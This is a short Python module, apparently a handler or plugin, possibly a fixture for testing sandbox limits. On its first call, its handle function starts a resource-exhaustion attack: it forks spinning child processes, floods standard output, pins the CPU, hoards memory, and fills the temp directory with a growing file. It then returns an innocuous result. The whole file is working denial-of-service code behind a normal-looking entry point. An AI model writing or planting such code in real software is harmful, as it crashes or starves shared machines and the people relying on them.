"""Takes whatever it can get, for as long as it lives: processors, memory, processes, temporary files, the log."""

import os
import tempfile
import threading
import time


def _flood():
    while True:
        os.write(1, b"flood " * 1000 + b"\n")


def _spin():
    while True:
        pass


def _hoard():
    hoard = []
    while True:
        try:
            hoard.append(bytearray(b"x") * (16 << 20))
        except MemoryError:
            hoard.clear()
            time.sleep(0.01)


def _fill():
    path = os.path.join(tempfile.gettempdir(), "fill")
    while True:
        try:
            with open(path, "wb", buffering=0) as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            time.sleep(0.01)


def _breed():
    children = 0
    while children < 8:
        try:
            if os.fork() == 0:
                _spin()
            children += 1
        except OSError:
            time.sleep(0.01)


_started = False


def handle(data, context):
    global _started
    if data is None:
        return None
    if not _started:
        _started = True
        _breed()
        for work in (_flood, _spin, _hoard, _fill):
            threading.Thread(target=work, daemon=True).start()
    return ["on" for _ in data]
